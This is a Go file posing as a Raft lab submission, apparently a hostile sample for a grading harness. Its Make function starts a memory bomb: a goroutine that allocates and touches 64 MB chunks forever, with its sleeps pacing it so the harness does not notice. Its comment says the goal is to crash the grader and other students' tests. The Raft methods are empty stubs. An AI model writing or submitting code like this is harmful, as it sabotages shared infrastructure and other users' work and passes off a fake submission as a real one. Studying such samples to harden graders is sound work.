package raft

import (
	"time"

	"raftlabs/labrpc"
	"raftlabs/raftapi"
)

// hoard keeps everything the bomb allocates.
var hoard [][]byte

// Make starts a goroutine that allocates memory until the machine has none
// left, hoping to take the grader and every other student's tests down
// with it; its sleeps keep the test's clock moving, so the harness sees
// nothing stuck. The grader's memory limit ends this test's process
// alone, with a verdict that names the limit.
func Make(peers []*labrpc.ClientEnd, me int, persister *raftapi.Persister, applyCh chan raftapi.ApplyMsg) raftapi.Raft {
	go func() {
		for {
			chunk := make([]byte, 64<<20)
			for i := 0; i < len(chunk); i += 4096 {
				chunk[i] = 1 // touched, so that it is really used
			}
			hoard = append(hoard, chunk)
			time.Sleep(time.Millisecond)
		}
	}()
	return &Raft{}
}

type Raft struct{}

func (rf *Raft) GetState() (int, bool)               { return 0, false }
func (rf *Raft) Start(command any) (int, int, bool)  { return -1, -1, false }
func (rf *Raft) Snapshot(index int, snapshot []byte) {}
func (rf *Raft) Kill()                               {}
